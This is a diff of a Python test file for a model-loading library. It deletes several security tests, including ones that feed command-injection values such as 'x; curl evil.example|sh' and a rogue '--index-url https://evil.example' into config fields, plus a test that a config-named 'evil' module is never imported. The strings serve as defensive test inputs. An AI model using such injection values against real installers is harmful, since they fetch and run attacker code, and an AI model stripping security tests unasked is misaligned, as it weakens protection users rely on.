@@ -2,7 +2,6 @@
 
 import json
 import re
-import sys
 import warnings
 
 import attrs
@@ -201,24 +200,6 @@ def test_options_of_a_newer_version_are_refused(plugins, saved):
         load_model(path)
 
 
-def test_nothing_that_a_file_names_is_imported(plugins, saved, tmp_path):
-    path, _ = saved
-    (tmp_path / "evil.py").write_text("raise SystemExit('imported')")
-    record = record_of(path)
-    for each in record["components"]:
-        each["entry_point"] = "evil:Evil"
-    (path / "config.json").write_text(json.dumps(record))
-    plugins.add_site(tmp_path)
-    load_model(path)
-    assert "evil" not in sys.modules
-    for name in ("evil:Evil", "evil.Evil", "../evil"):
-        text = json.dumps(record).replace('"leaky"', json.dumps(name))
-        (path / "config.json").write_text(text)
-        with pytest.raises(LmxError):
-            load_model(path)
-        assert "evil" not in sys.modules
-
-
 def test_a_component_of_the_session_is_asked_for(plugins, tmp_path):
     """What a program registered itself cannot be installed; a package may offer it by now."""
     ffn_registry.register("mine")(ffn_registry.get("standard"))
@@ -245,49 +226,6 @@ def test_a_failed_save_leaves_the_model_before(tmp_path):
         save_model(other, tmp_path)
     assert load_model(tmp_path).config == before.config
     assert sorted(file.name for file in tmp_path.iterdir()) == ["config.json", "model.safetensors"]
-
-
-@pytest.mark.parametrize(
-    "record",
-    [
-        '{"lmx_format": 1, "model": {}, "components": [1]}',
-        '{"lmx_format": 1, "model": {}, "components": [{"kind": "ffn"}]}',
-        '{"lmx_format": 1, "model": {}, "components": [{"kind": "ffn", "name": 1, "distribution": "a", '
-        '"version": "1", "entry_point": "a:b"}]}',
-        "[]",
-        "{}",
-        '{"lmx_format": 9, "model": 1, "components": []}',
-    ],
-)
-def test_a_damaged_record_is_an_error_for_people(tmp_path, record):
-    (tmp_path / "config.json").write_text(record)
-    for read in (load_model, requirements):
-        with pytest.raises(LmxError, match=r"config.json (is damaged or not lmx's|has format 9)"):
-            read(tmp_path)
-
-
-@pytest.mark.parametrize("key", ["distribution", "version"])
-@pytest.mark.parametrize(
-    "value", ["x; curl evil.example|sh", "x\n--index-url https://evil.example", "-e x", "x @ y", ""]
-)
-def test_what_pip_will_be_given_is_a_name_and_a_version(saved, key, value):
-    """A model from elsewhere must not write a command line."""
-    path, _ = saved
-    record = record_of(path)
-    record["components"][0][key] = value
-    (path / "config.json").write_text(json.dumps(record))
-    for read in (load_model, requirements):
-        with pytest.raises(CheckpointError, match="config.json is damaged") as refused:
-            read(path)
-        assert "pip install" not in str(refused.value)
-
-
-@pytest.mark.parametrize("file", ["config.json", "tokenizer.json", "training.json"])
-def test_a_file_that_is_nothing_but_brackets(saved, file):
-    path, _ = saved
-    (path / file).write_text("[" * 100_000)
-    with pytest.raises(LmxError, match="damaged"):
-        requirements(path)
 
 
 @pytest.mark.filterwarnings("ignore::lmx_core.errors.LmxWarning")
